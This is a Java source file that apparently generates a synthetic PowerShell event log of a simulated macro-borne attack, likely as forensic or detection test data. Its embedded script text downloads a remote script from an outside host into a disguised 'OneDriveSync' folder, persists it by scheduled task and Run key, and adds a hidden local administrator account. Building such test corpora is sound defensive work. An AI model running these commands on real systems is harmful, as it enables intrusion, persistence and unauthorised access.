package org.foothold.app.corpus;

import static org.foothold.app.corpus.OfficeMacroChain.ACCOUNT;
import static org.foothold.app.corpus.OfficeMacroChain.COMPUTER;
import static org.foothold.app.corpus.OfficeMacroChain.RUN_UPDATER;
import static org.foothold.app.corpus.OfficeMacroChain.SCRIPT;
import static org.foothold.app.corpus.OfficeMacroChain.SID;
import static org.foothold.app.corpus.OfficeMacroChain.UPDATER;

import org.foothold.app.corpus.LogScript.Numbers;

/** What PowerShell logs of the sample's attack: the script blocks, decoded. */
final class PowerShellScript {
    private static final String DOWNLOADED = String.join(
            "\r\n",
            "$folder = Join-Path $env:APPDATA 'OneDriveSync'",
            "New-Item -ItemType Directory -Force -Path $folder | Out-Null",
            "(New-Object Net.WebClient).DownloadFile('http://203.0.113.58/updates/sync.ps1', '" + UPDATER + "')",
            "$run = '" + RUN_UPDATER + "'",
            "schtasks.exe /Create /F /SC ONLOGON /RL HIGHEST /TN 'OneDrive Sync Check' /TR $run",
            "Set-ItemProperty -Path 'HKCU:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' -Name OneDriveSync -Value $run",
            "Start-Sleep -Seconds 85",
            "net user " + ACCOUNT + " 'Winter-2026!' /add",
            "net localgroup Administrators " + ACCOUNT + " /add");

    private PowerShellScript() {}

    static byte[] write() {
        LogScript log = new LogScript(
                "Microsoft-Windows-PowerShell/Operational",
                "Microsoft-Windows-PowerShell",
                "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
                COMPUTER,
                SID,
                9460,
                3310);
        log.event("2026-03-17T09:12:32.207Z", 40961, new Numbers(1, 4, 4, 1, "0x0"));
        log.event(
                "2026-03-17T09:12:32.290Z",
                53504,
                new Numbers(1, 4, 111, 10, "0x0"),
                "param1",
                "9460",
                "param2",
                "DefaultAppDomain");
        block(log, "2026-03-17T09:12:32.401Z", SCRIPT, "0c9e61aa-3df3-4f16-9f6e-12b0b3e35b01");
        block(log, "2026-03-17T09:12:33.377Z", DOWNLOADED, "5fd80e1b-6a05-4f3c-8a48-9b8b8a1de702");
        log.event("2026-03-17T09:12:33.390Z", 40962, new Numbers(1, 4, 4, 2, "0x0"));
        return log.bytes();
    }

    private static void block(LogScript log, String at, String text, String id) {
        log.event(
                at,
                4104,
                new Numbers(1, 3, 2, 15, "0x0"),
                Fields.of("MessageNumber", "1")
                        .with("MessageTotal", "1")
                        .with("ScriptBlockText", text)
                        .with("ScriptBlockId", id)
                        .with("Path", "")
                        .array());
    }
}
